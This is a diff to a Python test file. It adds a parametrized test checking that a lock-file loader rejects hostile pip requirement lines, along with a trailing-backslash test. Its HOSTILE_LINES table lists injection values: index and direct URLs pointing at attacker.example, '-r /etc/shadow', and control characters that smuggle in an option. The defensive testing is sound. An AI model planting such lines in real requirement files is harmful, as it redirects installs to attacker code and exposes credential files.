@@ -276,13 +276,54 @@ def test_a_stale_lock_is_refused_with_the_command_that_refreshes_it(
     assert load_recipe(path).lock is not None
 
 
-def test_a_lock_cannot_point_pip_elsewhere(fake_uv: Path, tmp_path: Path) -> None:
+HASH = "    --hash=sha256:" + "0" * 64
+
+# what a lock from someone else could add to make pip install something other than its entries
+HOSTILE_LINES = {
+    "an index URL": ("--index-url https://attacker.example/simple", "not a locked package"),
+    "an extra index": ("--extra-index-url=https://attacker.example/simple", "not a locked package"),
+    "another requirements file": ("-r /etc/shadow", "not a locked package"),
+    "an editable install": ("-e git+https://attacker.example/x.git#egg=x", "not a locked package"),
+    "a trusted host": ("--trusted-host attacker.example", "not a locked package"),
+    "build settings": ("numpy==2.4.6 --config-settings=x=y \\", "not a locked package"),
+    "a direct URL": ("evil @ https://attacker.example/evil-1.0.tar.gz \\", "not a locked package"),
+    "a variable": ("numpy==${VERSION} \\", "not a locked package"),
+    "an extra": ("requests[socks]==2.32.0 \\", "not a locked package"),
+    "a marker": ('numpy==2.4.6 ; python_version > "3" \\', "not a locked package"),
+    "a NUL": ("# a comment\x00--index-url x", "a control character"),
+    "a carriage return": ("# a comment\r--index-url x", "a control character"),
+    "an entry without a hash": ("evil==1.0", "an entry without its --hash line"),
+    "a hash for nothing": (HASH, "a hash that follows no entry"),
+    "a backslash into the next entry": ("evil==1.0 \\", "line before ends in a backslash"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HOSTILE_LINES)
+def test_a_lock_says_nothing_but_its_entries(name: str, fake_uv: Path, tmp_path: Path) -> None:
+    """Every line of a lock is an entry, a hash or a comment: options, URLs, extras, markers,
+    variables and control characters are refused with the line's number, before any build."""
+    line, problem = HOSTILE_LINES[name]
     path = _locked_recipe(tmp_path, fake_uv)
     lock = tmp_path / "mine.lock"
-    lock.write_text(lock.read_text() + "--index-url https://attacker.example/simple\n")
-    with pytest.raises(
-        UserError, match=r"mine.lock: line \d+: not a locked package, hash or comment"
-    ):
+    lines = lock.read_text().split("\n")
+    at = next(i for i, text in enumerate(lines) if text.startswith("numpy=="))  # between entries
+    lock.write_text("\n".join([*lines[:at], line, *lines[at:]]))
+    with pytest.raises(UserError) as info:
+        load_recipe(path)
+    message = str(info.value)
+    # the line itself, or (a backslash that swallows the next line) the line after it
+    assert re.match(rf"{re.escape(str(lock))}: line ({at + 1}|{at + 2}): ", message), message
+    assert problem in message, message
+    assert "\n" not in message and "\x00" not in message
+
+
+def test_a_lock_ending_in_a_backslash_is_refused(fake_uv: Path, tmp_path: Path) -> None:
+    path = _locked_recipe(tmp_path, fake_uv)
+    lock = tmp_path / "mine.lock"
+    lines = lock.read_text().rstrip("\n").split("\n")
+    last_hash = max(i for i, text in enumerate(lines) if "--hash=" in text)
+    lock.write_text("\n".join(lines[: last_hash + 1]) + " \\\n")  # pip would join what follows
+    with pytest.raises(UserError, match="ends in a backslash that continues into nothing"):
         load_recipe(path)
 
 
